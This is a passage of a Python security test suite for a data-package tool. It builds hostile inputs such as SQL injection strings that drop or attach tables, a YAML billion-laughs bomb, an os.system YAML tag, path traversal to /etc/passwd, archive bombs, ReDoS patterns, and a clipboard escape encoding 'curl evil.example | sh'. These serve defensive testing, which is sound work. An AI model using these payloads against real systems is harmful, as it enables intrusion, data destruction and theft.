"""The hostile corpus: packages, seeds, suites and arguments a hostile user would try, each with the
outcome the contract promises (issue 10 and the README: exit 0 fine, 1 findings, 2 unusable input
with one line on stderr; nothing outside the package read, written, run or fetched).

A case is a small function that plants its payload in a fresh World (see hostile_world.py) and
returns how to run it: `Cli(args)` in-process, `Process(argv)` as a real process (time, memory,
import-time settings), or `Api(call)` for the Python API. The harness then checks, for every case:
the exit code and the one-line error; that nothing under the case's root changed except the
outputs it declares (the previous package, previous targets and the canary folder included);
that no canary file was opened; that the canary databases still hold their `victim` table; that
no request reached the local HTTP server; that TMPDIR is empty again; and that no output quotes a
canary secret. `world.checks` holds a case's own extra assertions.

A case whose defect is still open carries `defect=`: the test keeps asserting the correct
behaviour and is marked xfail(strict=True), so fixing the defect makes it fail until the mark goes.
"""

from __future__ import annotations

import errno
import gzip
import hashlib
import itertools
import json
import os
import pathlib
import random
import shutil
import sqlite3
import stat
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import duckdb
import yaml
from hostile_world import PASSWD_MARK, TOKEN_MARK, Outcome, World, claimpack_argv

ROOT_TESTS = Path(__file__).resolve().parents[1]

# ---------------------------------------------------------------------------------------------
# how a case runs


@dataclass
class Cli:
    args: list[str]
    env: dict[str, str] = field(default_factory=dict)
    patches: list[tuple[object, str, object]] = field(default_factory=list)  # (owner, attribute, value)


@dataclass
class Process:
    argv: list[str]
    env: dict[str, str] = field(default_factory=dict)
    timeout: float = 60.0


@dataclass
class Api:
    call: Callable[[], object]


Run = Cli | Process | Api
Setup = Callable[[World], Run]


@dataclass(frozen=True)
class Case:
    id: str
    category: str
    setup: Setup
    exit: int | tuple[int, ...]
    defect: str | None = None  # an open defect: the case is xfail(strict=True) with this reason
    requests: int | None = 0  # requests the HTTP server may see; None = at least one
    reads_outside: bool = False  # the user's own input names a canary file (reviewed: /etc/passwd)
    needs_pg: bool = False
    max_seconds: float | None = None
    max_rss_mb: float | None = None

    @property
    def exits(self) -> tuple[int, ...]:
        return self.exit if isinstance(self.exit, tuple) else (self.exit,)


CASES: list[Case] = []
# a refusal (exit 2) in these categories must say why in these words, not fail for another reason
REFUSAL_WORDS = {"references": "inside", "remote": "remote"}


def register(case_id: str, category: str, setup: Setup, exit: int | tuple[int, ...], **options: Any) -> None:
    assert case_id not in {c.id for c in CASES}, case_id
    CASES.append(Case(case_id, category, setup, exit, **options))


def case(category: str, exit: int | tuple[int, ...], **options: Any) -> Callable[[Setup], Setup]:
    """Register the decorated setup as a case named after the function."""

    def decorate(setup: Setup) -> Setup:
        register(setup.__name__.replace("_", "-"), category, setup, exit, **options)
        return setup

    return decorate


# ---------------------------------------------------------------------------------------------
# payloads and builders

FIELD_PAYLOAD = "k\" IN ('a'))); DROP TABLE victim; /*"
# peak RSS of a whole `claimpack` process: ~250 MB is the interpreter with pandas, frictionless and
# DuckDB imported; a bomb that got through would add gigabytes (zip_bomb_load measures the growth)
PEAK_RSS_MB = 600
CHECK_CRASH = "claimpack/publish: a crash the last-resort handler turns into 'unexpected … (a bug)'"


def copy_payload(world: World, name: str = "copied.csv") -> str:
    """SQL that writes a file (DuckDB's COPY) if it ever runs: the file must never appear."""
    return f"x'))); COPY (SELECT 42) TO '{world.root / name}'; --"


def attach_payload(world: World, engine: str) -> str:
    victim = world.canary / ("victim.sqlite" if engine == "sqlite" else "victim.duckdb")
    return f"x'); ATTACH '{victim}' AS v; DROP TABLE v.victim; --"


def yaml_bomb(top: str = "reviewed") -> str:
    """Billion laughs: a few hundred bytes of nested aliases that expand to ~10^9 strings."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    names = "abcdefghi"
    for before, name in itertools.pairwise(names):
        lines.append(f"{name}: &{name} [{','.join(['*' + before] * 9)}]")
    lines.append(f"{top}: *i")
    return "\n".join(lines) + "\n"


def python_tag(world: World) -> str:
    return f'!!python/object/apply:os.system ["touch {world.root / "pwned"}"]'


def regular(name: str, compress: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
    info.compress_type = compress
    info.external_attr = (stat.S_IFREG | 0o644) << 16
    return info


def zip_package(world: World, name: str, extra: list[tuple[zipfile.ZipInfo, bytes]] | None = None) -> Path:
    """repo/NAME: the package's files as regular members (an `extra` member replaces the file of
    the same name), plus the `extra` members."""
    folder = world.package
    target = world.repo / name
    replaced = {info.filename for info, _ in extra or []}
    with zipfile.ZipFile(target, "w") as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and path.relative_to(folder).as_posix() not in replaced:
                archive.writestr(regular(path.relative_to(folder).as_posix()), path.read_bytes())
        for info, data in extra or []:
            archive.writestr(info, data)
    return target


def zero_members(count: int, size: int) -> list[tuple[zipfile.ZipInfo, bytes]]:
    blob = bytes(size)
    return [(regular(f"pad/{i}.bin"), blob) for i in range(count)]


def change_cell(world: World, table: str, column: str, value: str, rehash: bool = True, row: int = 0) -> None:
    rows = world.rows(table)
    rows[row][column] = value
    if rehash:
        world.write_rows(table, rows)
    else:
        import csv
        import io

        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        (world.package / "data" / f"{table}.csv").write_text(buffer.getvalue(), "utf-8")


def yaml_package(world: World, body: str | None = None, change: Callable[[dict[str, Any]], None] | None = None) -> str:
    """repo/yamlpkg/datapackage.yaml (the package's descriptor as YAML, or `body`) beside its data."""
    folder = world.repo / "yamlpkg"
    shutil.copytree(world.package / "data", folder / "data")
    data = world.descriptor()
    if change:
        change(data)
    (folder / "datapackage.yaml").write_text(body if body is not None else yaml.safe_dump(data), "utf-8")
    return "yamlpkg/datapackage.yaml"


def report_of(outcome: Outcome) -> dict[str, Any]:
    try:
        report: dict[str, Any] = json.loads(outcome.stdout)
    except ValueError:
        raise AssertionError(f"no JSON report on stdout: {outcome.stdout[:200]!r}") from None
    return report


def findings(outcome: Outcome, rule: str) -> list[dict[str, Any]]:
    return [f for f in report_of(outcome)["findings"] if f["rule"] == rule]


def expect_finding(world: World, rule: str, code: str | None = None, severity: str = "error") -> None:
    def check(outcome: Outcome) -> None:
        found = [(f["severity"], f.get("code")) for f in findings(outcome, rule)]
        assert (severity, code) in found if code else any(s == severity for s, _ in found), (
            f"expected a {severity} finding {rule}/{code}, got {found}"
        )

    world.checks.append(check)


def expect_in_stderr(world: World, text: str) -> None:
    def check(outcome: Outcome) -> None:
        assert text in outcome.stderr, f"stderr should name {text!r}: {outcome.stderr!r}"

    world.checks.append(check)


def expect_file(world: World, path: Path, present: bool = True) -> None:
    def check(outcome: Outcome) -> None:
        assert path.exists() == present, f"{path} should {'exist' if present else 'not exist'}"

    world.checks.append(check)


def errors_by_engine(package: Path) -> dict[str, set[tuple[str, str | None, str | None]]]:
    from claimpack.validation import validate

    result = {}
    for engine in ("frictionless", "duckdb"):
        report = validate(package, engine=engine)
        result[engine] = {(f.rule, f.code, f.location.resource) for f in report.findings if f.severity == "error"}
    return result


def same_errors_as_frictionless(world: World, package: Path) -> None:
    def check(outcome: Outcome) -> None:
        found = errors_by_engine(package)
        assert found["duckdb"] == found["frictionless"], found

    world.checks.append(check)


# =============================================================================================
# validate: references that leave the package (exit 2, nothing outside read)


@case("references", 2)
def ref_path_absolute(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "articles").update(path=str(world.canary / "data.csv")))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_path_dotdot(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "articles").update(path="../../canary/data.csv"))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_path_glob_reaches_a_symlink_out(world: World) -> Run:
    """DuckDB's readers expand wildcards: 'data/e*/dates.csv' would also match data/evil/, a link
    out of the package. A wildcard in a path is refused before any engine reads it."""
    literal = world.package / "data" / "e*"
    literal.mkdir()
    shutil.copy(world.package / "data" / "dates.csv", literal / "dates.csv")
    (world.canary / "dates.csv").write_text("date_id\nCANARY\n")
    (world.package / "data" / "evil").symlink_to(world.canary, target_is_directory=True)
    world.edit(lambda d: world.resource(d, "dates").update(path="data/e*/dates.csv"))
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("references", 2)
def ref_path_etc_passwd(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "articles").update(path="/etc/passwd"))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_path_symlink_out(world: World) -> Run:
    target = world.package / "data" / "claims.csv"
    target.unlink()
    target.symlink_to(world.canary / "data.csv")
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_data_folder_symlink_out(world: World) -> Run:
    data = world.package / "data"
    shutil.copytree(data, world.canary / "tree" / "data")
    shutil.rmtree(data)
    data.symlink_to(world.canary / "tree" / "data")
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_schema_path_outside(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "articles").update(schema="../../canary/schema.json"))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_schema_absolute(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "dates").update(schema=str(world.canary / "schema.json")))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_dialect_outside(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "claims").update(dialect=str(world.canary / "dialect.json")))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_profile_local_outside(world: World) -> Run:
    world.edit(lambda d: d.update(profile="../../canary/profile.json"))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_resource_profile_symlink_out(world: World) -> Run:
    (world.package / "profile.json").symlink_to(world.canary / "profile.json")
    world.edit(lambda d: world.resource(d, "claims").update(profile="profile.json"))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_path_drive_letter(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "articles").update(path="C:\\Windows\\win.ini"))
    return Cli(["validate", "datapackage"])


@case("references", 2)
def ref_duckdb_path_dotdot(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "articles").update(path="../../canary/data.csv"))
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("references", 2)
def ref_duckdb_symlink_out(world: World) -> Run:
    target = world.package / "data" / "dates.csv"
    target.unlink()
    target.symlink_to(world.canary / "data.csv")
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("references", 2)
def ref_publish_path_dotdot(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "articles").update(path="../../canary/data.csv"))
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite", "--no-check"])


@case("references", 2)
def ref_load_path_dotdot(world: World) -> Run:
    import claimpack

    world.edit(lambda d: world.resource(d, "articles").update(path="../../canary/data.csv"))
    package = world.package
    return Api(lambda: claimpack.load(package, verify=False))


@case(
    "references",
    2,
)
def ref_descriptor_symlink_out(world: World) -> Run:
    """The descriptor itself is a symlink to a JSON file outside the package folder."""
    outside = world.canary / "tree" / "datapackage.json"
    shutil.move(world.package / "datapackage.json", outside)
    (world.package / "datapackage.json").symlink_to(outside)
    return Cli(["validate", "datapackage"])


# =============================================================================================
# validate: remote references (exit 2 and no request; --allow-remote fetches)


def _remote(where: str) -> Setup:
    def setup(world: World) -> Run:
        url = world.url
        changes: dict[str, Callable[[dict[str, Any]], None]] = {
            "path": lambda d: world.resource(d, "dates").update(path=url("dates.csv")),
            "path-list": lambda d: world.resource(d, "dates").update(path=["data/dates.csv", url("more.csv")]),
            "protocol-relative": lambda d: world.resource(d, "dates").update(
                path=url("dates.csv").removeprefix("http:")
            ),
            "schema": lambda d: world.resource(d, "dates").update(schema=url("schema.json")),
            "dialect": lambda d: world.resource(d, "dates").update(dialect=url("dialect.json")),
            "package-profile": lambda d: d.update(profile=url("profile.json")),
            "package-dollar-schema": lambda d: d.update({"$schema": url("package.json")}),
            "resource-profile": lambda d: world.resource(d, "claims").update(profile=url("resource.json")),
            "resource-dollar-schema": lambda d: world.resource(d, "claims").update({"$schema": url("r.json")}),
            "schema-dollar-schema": lambda d: world.resource(d, "claims")["schema"].update({"$schema": url("s.json")}),
            "dialect-dollar-schema": lambda d: world.resource(d, "claims").update(dialect={"$schema": url("d.json")}),
            "file-url": lambda d: world.resource(d, "dates").update(path="file:///etc/passwd"),
        }
        world.edit(changes[where])
        expect_in_stderr(world, "is remote")
        return Cli(["validate", "datapackage"])

    return setup


for _where in (
    "path",
    "path-list",
    "protocol-relative",
    "schema",
    "dialect",
    "package-profile",
    "package-dollar-schema",
    "resource-profile",
    "resource-dollar-schema",
    "schema-dollar-schema",
    "dialect-dollar-schema",
    "file-url",
):
    register(f"remote-{_where}", "remote", _remote(_where), 2)


@case("remote", 2)
def remote_yaml_descriptor_profile(world: World) -> Run:
    return Cli(["validate", yaml_package(world, change=lambda d: d.update(profile=world.url("profile.json")))])


@case("remote", 2)
def remote_duckdb_engine(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "dates").update(path=world.url("dates.csv")))
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("remote", 2)
def remote_publish(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "dates").update(path=world.url("dates.csv")))
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite", "--no-check"])


@case("remote", 2)
def remote_diff(world: World) -> Run:
    shutil.copytree(world.package, world.repo / "other")
    world.edit(lambda d: world.resource(d, "dates").update(path=world.url("dates.csv")), world.repo / "other")
    return Cli(["diff", "datapackage", "other"])


@case("remote", 2)
def remote_load(world: World) -> Run:
    import claimpack

    world.edit(lambda d: world.resource(d, "dates").update(path=world.url("dates.csv")))
    package = world.package
    return Api(lambda: claimpack.load(package))


@case("remote", 1)
def remote_foreign_key_package(world: World) -> Run:
    """A foreign key into another package at a URL (Data Package v1 allowed `reference.package`):
    frictionless 5 reports the descriptor as invalid and fetches nothing."""

    def change(d: dict[str, Any]) -> None:
        world.resource(d, "claims")["schema"].setdefault("foreignKeys", []).append(
            {"fields": "article_id", "reference": {"resource": "articles", "package": world.url("other.json")}}
        )

    world.edit(change)
    return Cli(["validate", "datapackage"])


@case("remote", (0, 1), requests=None)
def remote_allowed(world: World) -> Run:
    world.edit(
        lambda d: d["resources"].append(
            {
                "name": "remote",
                "path": world.url("remote.csv"),
                "schema": {"fields": [{"name": "id", "type": "integer"}]},
            }
        )
    )
    return Cli(["validate", "datapackage", "--allow-remote"])


# =============================================================================================
# validate: keys, formats and dialect controls claimpack does not support (an allow-list: exit 2
# before any reader opens or fetches anything)


def _unsupported(change: Callable[[World, dict[str, Any]], None], word: str, command: str = "validate") -> Setup:
    def setup(world: World) -> Run:
        (world.package / "data" / "evil").symlink_to(world.canary / "tree")
        world.edit(lambda d: change(world, d))
        expect_in_stderr(world, word)
        if command == "publish":
            return Cli(["publish", "datapackage", "--to", "dist/out.sqlite"])
        return Cli(["validate", "datapackage"])

    return setup


def _dates(world: World, d: dict[str, Any]) -> dict[str, Any]:
    return world.resource(d, "dates")


def _extrapaths_outside(world: World, d: dict[str, Any]) -> None:
    _dates(world, d)["extrapaths"] = ["data/evil/keep.txt"]
    _dates(world, d)["schema"]["fields"][0].setdefault("constraints", {})["maxLength"] = 1


_UNSUPPORTED: dict[str, tuple[Callable[[World, dict[str, Any]], None], str]] = {
    "extrapaths-symlink-out": (_extrapaths_outside, "extrapaths"),
    "extrapaths-remote": (lambda w, d: _dates(w, d).update(extrapaths=[w.url("more.csv")]), "extrapaths"),
    "resource-profiles-list": (lambda w, d: _dates(w, d).update(profiles=[w.url("p.json")]), "profiles"),
    "package-profiles-list": (lambda w, d: d.update(profiles=[w.url("p.json")]), "profiles"),
    "legacy-url": (lambda w, d: _dates(w, d).update(url=w.url("dates.csv"), path=None), "url"),
    "scheme-remote": (lambda w, d: _dates(w, d).update(scheme="https"), "scheme"),
    "format-gsheets": (lambda w, d: _dates(w, d).update(format="gsheets"), "gsheets"),
    "format-yaml": (lambda w, d: _dates(w, d).update(format="yaml"), "yaml"),
    "format-xlsx-by-suffix": (lambda w, d: _dates(w, d).update(path="data/dates.xlsx", format=None), "xlsx"),
    "format-by-query-string": (lambda w, d: _dates(w, d).update(path="data/dates?format=ods", format=None), "ods"),
    "dialect-excel-control": (lambda w, d: _dates(w, d).update(dialect={"excel": {"fillMergedCells": True}}), "excel"),
    "profile-name-fetched": (lambda w, d: d.update(profile="fiscal-data-package"), "profile"),
    "profile-standard-url-fetched": (
        lambda w, d: _dates(w, d).update(profile="https://datapackage.org/profiles/1.0/tableschema.json"),
        "profile",
    ),
    "profile-file-inside": (lambda w, d: _dates(w, d).update(profile="data/dates.csv"), "custom profile"),
}
for _label, (_change, _word) in _UNSUPPORTED.items():
    register(f"unsupported-{_label}", "unsupported", _unsupported(_change, _word), 2)
register(
    "unsupported-extrapaths-publish",
    "unsupported",
    _unsupported(_extrapaths_outside, "extrapaths", "publish"),
    2,
)


@case("unsupported", 2)
def unsupported_dialect_file_with_excel_control(world: World) -> Run:
    """A dialect given by reference is checked as read: its nested objects configure readers too."""
    (world.package / "dialect.json").write_text(json.dumps({"excel": {"fillMergedCells": True}}))
    world.edit(lambda d: world.resource(d, "dates").update(dialect="dialect.json"))
    expect_in_stderr(world, "excel")
    return Cli(["validate", "datapackage"])


@case("unsupported", 2)
def unsupported_schema_file_with_remote_profile(world: World) -> Run:
    schema = world.resource(world.descriptor(), "dates")["schema"]
    (world.package / "schema.json").write_text(json.dumps({**schema, "$schema": world.url("s.json")}))
    world.edit(lambda d: world.resource(d, "dates").update(schema="schema.json"))
    expect_in_stderr(world, "remote")
    return Cli(["validate", "datapackage"])


@case("bombs", 2, max_seconds=20, max_rss_mb=PEAK_RSS_MB)
def bomb_yaml_resource(world: World) -> Run:
    """A resource in YAML: frictionless loads it with aliases (and quotes the cell in its error)."""
    (world.package / "data" / "bomb.yaml").write_text(yaml_bomb("rows"))
    world.edit(lambda d: world.resource(d, "dates").update(path="data/bomb.yaml", format="yaml"))
    return Process(claimpack_argv("validate", "datapackage"), timeout=30)


@case("bombs", 2, max_seconds=20, max_rss_mb=PEAK_RSS_MB)
def bomb_gzip_list_path(world: World) -> Run:
    """The list form of `path` gets the decompression check the string form gets."""
    with gzip.open(world.package / "data" / "bomb.bin", "wb", compresslevel=9) as handle:
        for _ in range(200):
            handle.write(bytes(1 << 20))
    world.edit(lambda d: world.resource(d, "dates").update(path=["data/bomb.bin"], compression="gz", format="csv"))
    return Process(claimpack_argv("validate", "datapackage"), timeout=30)


@case("files", 2, max_seconds=20)
def ref_resource_is_a_fifo(world: World) -> Run:
    target = world.package / "data" / "images.csv"
    target.unlink()
    os.mkfifo(target)
    expect_in_stderr(world, "not a regular file")
    return Process(claimpack_argv("validate", "datapackage"), timeout=30)


# =============================================================================================
# input json.loads or PyYAML accepts but nothing downstream can use: one line and exit 2, never a
# crash the last-resort handler catches ("unexpected … (a bug; …)")

HUGE_INT = "9" * 5000  # past Python's 4,300-digit int() limit
SURROGATE = "\\ud800"  # a JSON escape for a lone UTF-16 surrogate: no writer can encode it


def _descriptor_text(world: World, edit: Callable[[str], str]) -> None:
    path = world.package / "datapackage.json"
    path.write_text(edit(path.read_text("utf-8")), "utf-8")


def _huge_int(text: str) -> str:
    return text.replace('"bytes": ', f'"bytes": {HUGE_INT}, "x": ', 1)


def _surrogate_field(text: str) -> str:
    return text.replace('"name": "paragraph"', f'"name": "para{SURROGATE}graph"', 1)


def _crash_case(edit: Callable[[str], str], command: str) -> Setup:
    def setup(world: World) -> Run:
        _descriptor_text(world, edit)
        if command == "load":
            import claimpack

            package = world.package
            return Api(lambda: claimpack.load(package))
        if command == "diff":
            return Cli(["diff", "HEAD", "datapackage"])
        if command.startswith("publish-"):
            kind = command.removeprefix("publish-")
            target = {"parquet": "dist/pq"}.get(kind, f"dist/out.{kind}")
            return Cli(["publish", "datapackage", "--to", target, "--no-check"])
        return Cli(["validate", "datapackage", *(["--format", command] if command != "validate" else [])])

    return setup


for _command in ("validate", "json", "sarif", "github", "load", "diff"):
    register(f"crash-descriptor-huge-int-{_command}", "crashes", _crash_case(_huge_int, _command), 2)
for _command in ("validate", "json", "sarif", "load", "diff", "publish-sqlite", "publish-parquet", "publish-zip"):
    register(f"crash-surrogate-field-{_command}", "crashes", _crash_case(_surrogate_field, _command), 2)
register("crash-surrogate-field-publish-xlsx", "crashes", _crash_case(_surrogate_field, "publish-xlsx"), 2)


@case("crashes", 2)
def crash_sidecar_huge_int(world: World) -> Run:
    source = world.repo / "seeds" / "000_ce1b982170328aa1.meta.json"
    _new_seed(world, sidecar=source.read_bytes().replace(b"{", b'{"n": ' + HUGE_INT.encode() + b", ", 1))
    return Cli(["build", "--workers", "1", "-q"])


def _yaml_crash(body: str, where: str) -> Setup:
    def setup(world: World) -> Run:
        if where == "suite":
            _suite(world, f"fail_on: error\n{body}")
            return Cli(["validate", "datapackage"])
        if where == "reviewed":
            _suite(world, "fail_on: error\nreviewed: reviewed.yaml\n")
            _suite(world, body, "reviewed.yaml")
            return Cli(["validate", "datapackage"])
        if where == "gold":
            (world.repo / "gold").mkdir()
            (world.repo / "gold" / "x.gold.yaml").write_text(body)
            (world.repo / "gold" / "x.txt").write_text("Tekst.\n")
            return Cli(["evaluate", "gold"])
        return Cli(["validate", yaml_package(world, change=lambda d: d.update({"x": "PLACEHOLDER"}))])

    return setup


for _label, _body in (
    ("bad-date", "x: 2026-13-45\n"),
    ("huge-int", f"x: {HUGE_INT}\n"),
    ("surrogate", 'x: "\\ud800"\n'),
):
    for _where in ("suite", "reviewed", "gold"):
        register(f"crash-yaml-{_label}-{_where}", "crashes", _yaml_crash(_body, _where), 2)


def _yaml_descriptor_crash(value: str) -> Setup:
    def setup(world: World) -> Run:
        path = yaml_package(world, change=lambda d: d.update({"x": "PLACEHOLDER"}))
        target = world.repo / path
        target.write_text(target.read_text("utf-8").replace("PLACEHOLDER", value), "utf-8")
        return Cli(["validate", path])

    return setup


register("crash-yaml-bad-date-descriptor", "crashes", _yaml_descriptor_crash("2026-13-45"), 2)
register("crash-yaml-huge-int-descriptor", "crashes", _yaml_descriptor_crash(HUGE_INT), 2)
register("crash-yaml-surrogate-descriptor", "crashes", _yaml_descriptor_crash('"\\ud800"'), 2)


def _patched_zip(world: World, flag: int = 0, method: int | None = None) -> Path:
    """The package as a zip whose claims.csv member claims encryption (`flag`) or a compression
    method zipfile cannot read (`method`), in both its local and its central header."""
    path = zip_package(world, "odd.zip")
    raw = bytearray(path.read_bytes())
    name = b"data/claims.csv"
    for signature, flag_at, method_at, name_at in ((b"PK\x03\x04", 6, 8, 30), (b"PK\x01\x02", 8, 10, 46)):
        start = 0
        while (start := raw.find(signature, start)) >= 0:
            if raw[start + name_at : start + name_at + len(name)] == name:
                raw[start + flag_at] |= flag
                if method is not None:
                    raw[start + method_at : start + method_at + 2] = method.to_bytes(2, "little")
            start += 4
    path.write_bytes(bytes(raw))
    return path


def _zip_crash(flag: int, method: int | None, command: str) -> Setup:
    def setup(world: World) -> Run:
        path = _patched_zip(world, flag, method)
        if command == "load":
            import claimpack

            return Api(lambda: claimpack.load(path))
        if command == "diff":
            return Cli(["diff", "odd.zip", "datapackage"])
        if command == "publish":
            return Cli(["publish", "odd.zip", "--to", "dist/out.sqlite"])
        return Cli(["validate", "odd.zip"])

    return setup


for _command in ("validate", "diff", "publish", "load"):
    register(f"crash-zip-encrypted-{_command}", "crashes", _zip_crash(0x1, None, _command), 2)
    register(f"crash-zip-method-ppmd-{_command}", "crashes", _zip_crash(0, 98, _command), 2)


# =============================================================================================
# terminal escapes: text from a package or a gold file never reaches stdout as control characters

OSC_TITLE = "\x1b]0;PWNED\x07"  # sets the terminal's title
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard


def expect_printable_stdout(world: World) -> None:
    def check(outcome: Outcome) -> None:
        controls = sorted({c for c in outcome.stdout if (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160})
        assert not controls, f"stdout holds control characters {controls!r} (terminal escapes)"

    world.checks.append(check)


def _escape_diff(change: Callable[[World, Path], None]) -> Setup:
    def setup(world: World) -> Run:
        other = world.repo / "other"
        shutil.copytree(world.package, other)
        change(world, other)
        expect_printable_stdout(world)
        return Cli(["diff", "datapackage", "other"])

    return setup


def _escape_cell(world: World, other: Path) -> None:
    rows = world.rows("dates", other)
    rows[0]["date_id"] = rows[0]["date_id"] + OSC_CLIPBOARD
    world.write_rows("dates", rows, other)


def _escape_field(world: World, other: Path) -> None:
    world.edit(lambda d: world.resource(d, "dates")["schema"]["fields"][-1].update(description=OSC_TITLE), other)
    world.edit(lambda d: world.resource(d, "dates")["schema"]["fields"].append({"name": "n" + OSC_TITLE}), other)


register(
    "escape-diff-version",
    "escapes",
    _escape_diff(lambda w, o: w.edit(lambda d: d.update(version="9.0.0" + OSC_TITLE), o)),
    (0, 2),
)
register("escape-diff-primary-key-cell", "escapes", _escape_diff(_escape_cell), 0)
register("escape-diff-field-name", "escapes", _escape_diff(_escape_field), (0, 2))


def _gold(world: World, name: str) -> Path:
    folder = world.repo / "gold"
    folder.mkdir(exist_ok=True)
    corpus = ROOT_TESTS / "data" / "corpus"
    shutil.copy(corpus / "01-flom-otta.gold.yaml", folder / f"{name}.gold.yaml")
    shutil.copy(corpus / "01-flom-otta.txt", folder / f"{name}.txt")
    return folder


@case("escapes", 0)
def escape_evaluate_gold_file_name(world: World) -> Run:
    _gold(world, OSC_TITLE + "x")
    expect_printable_stdout(world)
    return Cli(["evaluate", "gold", "-v"])


@case("gold", 2)
def gold_text_symlink_out(world: World) -> Run:
    """A gold file's text is quoted by `evaluate -v`: a text that is a link out is refused."""
    folder = _gold(world, "x")
    (folder / "x.txt").unlink()
    (folder / "x.txt").symlink_to(world.canary / "secret.env")
    return Cli(["evaluate", "gold/x.gold.yaml", "-v"])


@case("gold", 2)
def gold_file_symlink_out_in_folder(world: World) -> Run:
    folder = _gold(world, "x")
    (folder / "y.gold.yaml").symlink_to(world.canary / "secret.yaml.env")
    return Cli(["evaluate", "gold", "-v"])


# =============================================================================================
# patterns: a `pattern` constraint runs in linear time (RE2) or is refused


def _pattern_table(world: World, pattern: str, value: str) -> None:
    field = {"name": "v", "type": "string", "constraints": {"pattern": pattern}}
    world.add_table("extra", [{"name": "id", "type": "integer"}, field], [["1", value]], primaryKey=["id"])


@case("patterns", 1, max_seconds=25)
def pattern_nested_quantifier(world: World) -> Run:
    """(a+)+ against 34 'a's and a '!' backtracks for minutes in Python's re: a finding in seconds."""
    _pattern_table(world, "(a+)+", "a" * 34 + "!")
    expect_finding(world, "table-schema")
    return Process(claimpack_argv("validate", "datapackage", "--format", "json"), timeout=40)


@case("patterns", 1, max_seconds=25)
def pattern_overlapping_alternation(world: World) -> Run:
    _pattern_table(world, "(a|aa)+b", "a" * 40)
    return Process(claimpack_argv("validate", "datapackage", "--format", "json"), timeout=40)


register(
    "pattern-backreference",
    "patterns",
    lambda w: (_pattern_table(w, "(a+)\\1", "aa"), Cli(["validate", "datapackage"]))[1],
    2,
)
register(
    "pattern-lookahead",
    "patterns",
    lambda w: (_pattern_table(w, "(?=a)a", "a"), Cli(["validate", "datapackage"]))[1],
    2,
)


# =============================================================================================
# validate: seeds named by the package (an error finding, code outside; never read or quoted)


def _seed_outside(world: World, path: str, where: str) -> Run:
    if where == "articles":
        change_cell(world, "articles", "source_path", path)
    else:
        world.edit(lambda d: d["sources"][0].update(path=path))
    expect_finding(world, "seed-file", "outside")
    return Cli(["validate", "datapackage", "--format", "json"])


@case("engines", 1)
def engine_duckdb_checks_the_descriptor_as_frictionless_does(world: World) -> Run:
    """An impossible 'created' datetime fails under frictionless; the columnar engine must not pass it."""
    world.edit(lambda d: d.update(created="2026-13-45T99:00:00Z"))
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("engines", 1)
def engine_duckdb_refuses_a_field_description_that_is_no_text(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "claims")["schema"]["fields"][0].update(description={"x": 1}))
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("seeds", 1)
def seed_source_path_absolute(world: World) -> Run:
    return _seed_outside(world, str(world.canary / "passwd"), "articles")


@case("seeds", 1)
def seed_source_path_etc_passwd(world: World) -> Run:
    return _seed_outside(world, "/etc/passwd", "articles")


@case("seeds", 1)
def seed_source_path_dotdot(world: World) -> Run:
    return _seed_outside(world, "../canary/passwd", "articles")


@case("seeds", 1)
def seed_sources_path_dotdot(world: World) -> Run:
    return _seed_outside(world, "../../../../../../../etc/hostname", "sources")


@case("seeds", 1)
def seed_sources_path_absolute(world: World) -> Run:
    return _seed_outside(world, str(world.canary / "secret.env"), "sources")


@case("seeds", 1)
def seed_symlink_out_in_repo(world: World) -> Run:
    seed = world.repo / "seeds" / "000_ce1b982170328aa1.txt"
    seed.unlink()
    seed.symlink_to(world.canary / "passwd")
    expect_finding(world, "seed-file", "outside")
    return Cli(["validate", "datapackage", "--format", "json"])


@case("seeds", 1)
def seed_symlink_out_in_package(world: World) -> Run:
    (world.package / "seeds").mkdir()
    (world.package / "seeds" / "000_ce1b982170328aa1.txt").symlink_to(world.canary / "passwd")
    expect_finding(world, "seed-file", "outside")
    return Cli(["validate", "datapackage", "--format", "json"])


@case("seeds", 1)
def seed_outside_text_report(world: World) -> Run:
    change_cell(world, "articles", "source_path", str(world.canary / "passwd"))
    return Cli(["validate", "datapackage", "--format", "sarif"])


@case("seeds", 1)
def seed_source_path_git_config(world: World) -> Run:
    """A file of the repository beside the package (the CI token actions/checkout leaves in
